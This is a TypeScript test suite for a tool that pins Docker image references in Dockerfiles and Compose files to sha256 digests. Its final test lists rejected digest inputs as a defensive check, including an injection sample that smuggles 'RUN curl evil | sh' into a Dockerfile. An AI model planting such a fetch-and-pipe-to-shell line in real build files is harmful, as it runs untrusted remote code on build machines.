// Which references pinning rewrites and the text it produces; the registry side is in test/registry.
import { strict as assert } from 'node:assert';
import { parseDocument } from 'yaml';
import { applyPins, isUpdatable, pinEdit, pinTargets, pullReference, type PinTarget } from '../../server/src/engine';
import { isDigest } from '../../server/src/engine/pin';

const DIGEST = 'sha256:' + 'c'.repeat(64);

function summary(targets: PinTarget[]) {
  return targets.map((t) => ({
    line: t.range.start.line,
    written: t.written,
    status: t.status,
    pull: t.ref && pullReference(t.ref),
  }));
}

function pinAll(text: string, kind: 'dockerfile' | 'compose', dotEnv?: string): string {
  const targets = pinTargets(text, kind, dotEnv);
  const digests = new Map(targets.filter((t) => t.ref).map((t) => [pullReference(t.ref!), DIGEST]));
  return applyPins(text, targets, digests);
}

describe('pin targets', () => {
  it('finds FROM and COPY --from images, skipping stages, scratch and pinned ones, and reports variables', () => {
    const text = [
      'ARG BASE=node:20',
      'ARG UNSET',
      'FROM --platform=$BUILDPLATFORM ${BASE} AS build',
      'FROM $UNSET',
      'FROM build',
      'FROM scratch AS empty',
      'FROM node',
      'COPY --from=ghcr.io/org/tool:1.2 /tool /tool',
      'COPY --from=build /app /app',
      `FROM alpine:3.20@${DIGEST}`,
    ].join('\n');
    assert.deepEqual(summary(pinTargets(text, 'dockerfile')), [
      { line: 2, written: '${BASE}', status: 'variable', pull: 'node:20' },
      { line: 3, written: '$UNSET', status: 'variable', pull: undefined },
      { line: 6, written: 'node', status: 'pinnable', pull: 'node:latest' },
      { line: 7, written: 'ghcr.io/org/tool:1.2', status: 'pinnable', pull: 'ghcr.io/org/tool:1.2' },
      { line: 9, written: `alpine:3.20@${DIGEST}`, status: 'pinned', pull: 'alpine:3.20' },
    ]);
  });

  it('appends the digest after the tag, leaving variables, CRLF and other text as they are', () => {
    const text = 'ARG BASE=node:20\r\nFROM ${BASE}\r\nFROM node:20-slim AS run\r\nCOPY --from=ghcr.io/org/tool:1.2 /t /t\r\n';
    assert.equal(
      pinAll(text, 'dockerfile'),
      `ARG BASE=node:20\r\nFROM \${BASE}\r\nFROM node:20-slim@${DIGEST} AS run\r\nCOPY --from=ghcr.io/org/tool:1.2@${DIGEST} /t /t\r\n`,
    );
  });

  it('pins Compose image: once where an anchor writes it, inside quotes, in block and flow style', () => {
    const text = [
      'x-base: &base',
      '  image: "redis:7" # cache',
      'services:',
      '  a: { <<: *base }',
      '  b:',
      '    <<: *base',
      "  c: { image: 'postgres:16', read_only: true }",
      '  d:',
      '    build: .',
      '    image: myorg/app:1',
      '  e:',
      '    image: ${REGISTRY}/app:${TAG:-1}',
      '  f:',
      '    image: ${MIRROR:-docker.io}/library/nginx:1.27',
      '',
    ].join('\n');
    assert.deepEqual(summary(pinTargets(text, 'compose', 'REGISTRY=r.example.com\n')), [
      { line: 1, written: 'redis:7', status: 'pinnable', pull: 'redis:7' },
      { line: 6, written: 'postgres:16', status: 'pinnable', pull: 'postgres:16' },
      { line: 11, written: '${REGISTRY}/app:${TAG:-1}', status: 'variable', pull: 'r.example.com/app:1' },
      { line: 13, written: '${MIRROR:-docker.io}/library/nginx:1.27', status: 'variable', pull: 'nginx:1.27' },
    ]);
    const pinned = pinAll(text, 'compose');
    assert.match(pinned, new RegExp(`  image: "redis:7@${DIGEST}" # cache\\n`));
    assert.match(pinned, new RegExp(`c: \\{ image: 'postgres:16@${DIGEST}', read_only: true \\}`));
    assert.match(pinned, /image: myorg\/app:1\n/);
    assert.match(pinned, /image: \$\{REGISTRY\}\/app:\$\{TAG:-1\}\n/);
  });

  it('updates a moved tag only with update on, and never a digest-only reference', () => {
    const old = 'sha256:' + 'a'.repeat(64);
    const text = `FROM node:20@${old}\nFROM node@${old}\n`;
    const targets = pinTargets(text, 'dockerfile');
    assert.deepEqual(targets.map(isUpdatable), [true, false]);
    const digests = new Map([
      ['node:20', DIGEST],
      ['node:latest', DIGEST],
    ]);
    assert.equal(applyPins(text, targets, digests), text);
    assert.equal(applyPins(text, targets, digests, true), `FROM node:20@${DIGEST}\nFROM node@${old}\n`);
  });

  it('names registries the way docker pull does', () => {
    const [target] = pinTargets('FROM localhost:5000/team/app:2\n', 'dockerfile');
    assert.equal(pullReference(target!.ref!), 'localhost:5000/team/app:2');
    const [hub] = pinTargets('FROM docker.io/bitnami/redis:7\n', 'dockerfile');
    assert.equal(pullReference(hub!.ref!), 'bitnami/redis:7');
  });

  it('pins a Compose block scalar on the line of the name, so the YAML still reads as the pinned reference', () => {
    const cases: { text: string; expected: string }[] = [
      { text: 'services:\n  web:\n    image: >-\n      node:20\n    ports: []\n', expected: `node:20@${DIGEST}` },
      { text: 'services:\n  web:\n    image: >-\n      node:20   \n# note\n    ports: []\n', expected: `node:20@${DIGEST}   ` },
      { text: 'services:\n  web:\n    image: |\n      node:20\n', expected: `node:20@${DIGEST}\n` },
      { text: 'services:\n  web:\n    image: >\n      node:20\n\n\n  db:\n    image: pg:16\n', expected: `node:20@${DIGEST}\n` },
      { text: 'services:\r\n  web:\r\n    image: |+\r\n      node:20\r\n\r\n  db: {}\r\n', expected: `node:20@${DIGEST}\n\n` },
    ];
    for (const { text, expected } of cases) {
      const [target] = pinTargets(text, 'compose');
      assert.equal(target?.status, 'pinnable', text);
      assert.equal(target.written, 'node:20', 'the written name leaves out the line breaks that end a block scalar');
      const doc = parseDocument(pinAll(text, 'compose'));
      assert.deepEqual(doc.errors, [], text);
      assert.equal(doc.getIn(['services', 'web', 'image']), expected, text);
    }
  });

  it('updates a digest pinned inside a Compose block scalar', () => {
    const old = 'sha256:' + 'a'.repeat(64);
    const text = `services:\n  web:\n    image: |\n      node:20@${old}\n`;
    const targets = pinTargets(text, 'compose');
    assert.deepEqual(targets.map(isUpdatable), [true]);
    const updated = applyPins(text, targets, new Map([['node:20', DIGEST]]), true);
    assert.equal(updated, `services:\n  web:\n    image: |\n      node:20@${DIGEST}\n`);
  });

  it('calls a Compose value that is no image reference invalid, not "built from variables"', () => {
    const text =
      'services:\n  a:\n    image: node\n      :20\n  b:\n    image: "@sha256:x"\n  c:\n    image:\n  d:\n    image: ${X}/app\n';
    assert.deepEqual(summary(pinTargets(text, 'compose')), [
      { line: 2, written: 'node :20', status: 'invalid', pull: undefined },
      { line: 5, written: '@sha256:x', status: 'invalid', pull: undefined },
      { line: 9, written: '${X}/app', status: 'variable', pull: undefined },
    ]);
    assert.equal(pinAll(text, 'compose'), text);
  });

  it('reads a quoted FROM or COPY --from as BuildKit does and pins inside the quotes', () => {
    const text = [
      'ARG TAG=3.20',
      'FROM "node:20" AS build',
      "FROM 'node:22-slim'",
      'FROM "alpine:${TAG}" AS a',
      'FROM "build"',
      'COPY --from="ghcr.io/org/tool:1.2" /tool /tool',
      'COPY --from="build" /app /app',
      "COPY --from='a' /x /x",
      `FROM "redis:7@${DIGEST}"`,
      '',
    ].join('\n');
    assert.deepEqual(summary(pinTargets(text, 'dockerfile')), [
      { line: 1, written: 'node:20', status: 'pinnable', pull: 'node:20' },
      { line: 2, written: 'node:22-slim', status: 'pinnable', pull: 'node:22-slim' },
      { line: 3, written: 'alpine:${TAG}', status: 'variable', pull: 'alpine:3.20' },
      { line: 5, written: 'ghcr.io/org/tool:1.2', status: 'pinnable', pull: 'ghcr.io/org/tool:1.2' },
      { line: 8, written: `redis:7@${DIGEST}`, status: 'pinned', pull: 'redis:7' },
    ]);
    assert.equal(
      pinAll(text, 'dockerfile'),
      text
        .replace('"node:20"', `"node:20@${DIGEST}"`)
        .replace("'node:22-slim'", `'node:22-slim@${DIGEST}'`)
        .replace('"ghcr.io/org/tool:1.2"', `"ghcr.io/org/tool:1.2@${DIGEST}"`),
    );
    const [target] = pinTargets('FROM "node:20"\n', 'dockerfile');
    assert.deepEqual(pinEdit(target!, DIGEST).range.start, { line: 0, character: 13 });
  });

  it('writes only well-formed sha256 and sha512 digests, whatever the caller passes', () => {
    assert.ok(isDigest(DIGEST));
    assert.ok(isDigest('sha512:' + 'f'.repeat(128)));
    for (const bad of [
      'sha256:deadbeef AS evil',
      `${DIGEST}\nRUN curl evil | sh`,
      `sha256:${'A'.repeat(64)}`,
      'md5:' + 'a'.repeat(32),
      42,
    ]) {
      assert.equal(isDigest(bad), false, String(bad));
    }
    const text = 'FROM node:20\n';
    const targets = pinTargets(text, 'dockerfile');
    assert.throws(
      () => applyPins(text, targets, new Map([['node:20', 'sha256:deadbeef AS evil']])),
      /not a sha256 or sha512 digest/,
    );
    assert.throws(() => pinEdit(targets[0]!, `${DIGEST} AS evil`), /not a sha256 or sha512 digest/);
  });
});
